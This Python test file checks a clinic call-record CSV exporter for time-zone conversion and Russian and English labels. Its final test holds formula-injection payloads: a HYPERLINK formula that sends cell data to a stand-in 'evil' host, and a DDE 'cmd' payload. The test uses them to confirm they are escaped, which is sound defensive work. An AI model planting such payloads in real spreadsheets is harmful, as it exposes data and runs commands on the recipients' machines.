"""A call record as a CSV row for people: the clinic's time, words in the chosen language, no formulas."""

from __future__ import annotations

from typing import Any
from zoneinfo import ZoneInfo

from calltracking.csv_safe import csv_text
from kolokol.calls.call_csv import COLUMNS, header, row

ZONE = ZoneInfo("Asia/Yekaterinburg")


def record(**changes: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "id": "c1",
        "started_at": "2026-11-23T09:00:00.000Z",
        "direction": "inbound",
        "status": "missed",
        "caller": "+79161234567",
        "caller_name": None,
        "called": "+74951110001",
        "branch": None,
        "operator": None,
        "answered_by": None,
        "wait_seconds": 12.6,
        "talk_seconds": 0.0,
        "source": None,
        "contacts": [],
        "first_time_caller": True,
        "recording": None,
    }
    return {**base, **changes}


def test_a_missed_call_without_anything_else() -> None:
    cells = dict(zip(COLUMNS, row(record(), "en", ZONE), strict=True))
    assert cells["started"] == "2026-11-23 14:00:00", "in the clinic's zone, which the header names"
    assert header("en", ZONE)[1] == "Started (Asia/Yekaterinburg)"
    assert (cells["status"], cells["wait_seconds"], cells["talk_seconds"]) == ("missed", 13, 0)
    assert (cells["source"], cells["recording"], cells["contacts"], cells["first_time_caller"]) == (
        None, None, None, "yes",
    )  # fmt: skip


def test_words_in_russian_and_names_of_several_contacts() -> None:
    answered = record(
        status="answered",
        direction="outbound",
        contacts=[{"name": "Анна"}, {"name": None}, {"name": "Борис"}],
        source={"source": "yandex", "channel": "paid", "campaign": "весна"},
        recording={"status": "purged"},
        first_time_caller=False,
    )
    cells = dict(zip(COLUMNS, row(answered, "ru", ZONE), strict=True))
    assert (cells["direction"], cells["status"], cells["recording"]) == ("исходящий", "отвечен", "удалена")
    assert (cells["contacts"], cells["campaign"], cells["first_time_caller"]) == (
        "Анна; Борис",
        "весна",
        "нет",
    )


def test_text_that_a_spreadsheet_would_run_is_kept_as_text() -> None:
    hostile = record(caller_name='=HYPERLINK("http://evil/?"&A1)', contacts=[{"name": "+cmd|' /C calc'!A0"}])
    text = csv_text([row(hostile, "en", ZONE)])
    assert "'=HYPERLINK" in text and "'+cmd" in text
    assert ",+79161234567," in text, "a phone number is data, left as it is"
